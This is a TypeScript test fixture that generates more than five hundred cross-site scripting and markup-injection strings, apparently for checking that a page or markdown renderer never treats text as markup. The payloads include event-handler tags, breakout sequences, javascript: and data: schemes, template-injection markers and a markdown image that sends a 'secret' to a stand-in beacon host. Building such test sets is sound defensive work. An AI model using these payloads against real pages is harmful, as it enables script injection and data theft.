/** Text that would run a script or call another site if any page took it for markup. All of it is our own. */

/** Whoever asks this address has taken a text for markup; nothing listens there. */
export const beacon = "https://beacon.invalid"

const run = `top.hit=1;fetch('${beacon}/run')`
const tags = [
  "img",
  "svg",
  "iframe",
  "video",
  "audio",
  "object",
  "embed",
  "input",
  "details",
  "body",
]
const more = ["math", "form", "button", "select", "textarea", "marquee", "style", "link", "base"]
const rare = [
  "template",
  "noscript",
  "picture",
  "source",
  "track",
  "dialog",
  "frameset",
  "meta",
  "area",
]
const events = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"]
const breakouts = ["", `">`, "'>", "-->", "</script>", "</style>", "</textarea>", "</title>", "]]>"]
const schemes = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "&#106;avascript:"],
  ...["vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:", "//beacon.invalid/"],
  ...["\\\\beacon.invalid\\", "https:beacon.invalid/", "file:///etc/", "view-source:javascript:"],
]
const marks = [
  ...[`${"${7*7}"}`, "{{constructor.constructor('top.hit=1')()}}", "<%= 7*7 %>", "#{7*7}"],
  ...["__proto__", "constructor", "\u202egpj.exe", "\u0000", "%3Cscript%3E", "&lt;script&gt;"],
]

function* all(): Generator<string> {
  for (const out of breakouts) yield `${out}<script>${run}</script>`
  for (const tag of [...tags, ...more, ...rare])
    for (const event of events)
      yield `<${tag} src=x href=x autofocus open ${event}="${run}" style="animation:a 1s">x</${tag}>`
  for (const tag of [...tags, ...more, ...rare])
    for (const out of breakouts.slice(0, 4))
      yield `${out}<${tag} src="${beacon}/${tag}" href="${beacon}/${tag}" data="${beacon}/${tag}" srcdoc="<script>${run}</script>" style="background:url(${beacon}/${tag})">`
  for (const scheme of schemes) {
    yield `[click](${scheme}${run})`
    yield `![picture](${scheme}${beacon}/${run})`
    yield `<${scheme}${run}>`
    yield `<a href="${scheme}${run}">click</a>`
    yield `[x]: ${scheme}${run}`
  }
  for (const out of breakouts) {
    yield `![a](${beacon}/picture?text=secret ${out})`
    yield `[a](https://ok.example/${out}" onclick="${run})`
    yield `\`\`\`html\n${out}<img src=${beacon}/code onerror=${run}>\n\`\`\``
    yield `**${out}<svg/onload=${run}>**`
    yield `# ${out}<svg/onload=${run}>`
    yield `> ${out}<img src=${beacon}/quote>`
    yield `- ${out}<img src=${beacon}/item>`
  }
  for (const mark of marks) {
    yield mark
    yield `${mark}<img src=x onerror=${run}>`
    yield `<img src=x${mark} onerror=${run}>`
  }
  for (let count = 1; count <= 64; count++)
    yield `<img src=x onerror=&#${106 + (count % 10)};top.hit=${count} ${"<".repeat(count)}`
}

/** More than five hundred of them. */
export const hostileTexts: readonly string[] = [...new Set(all())]
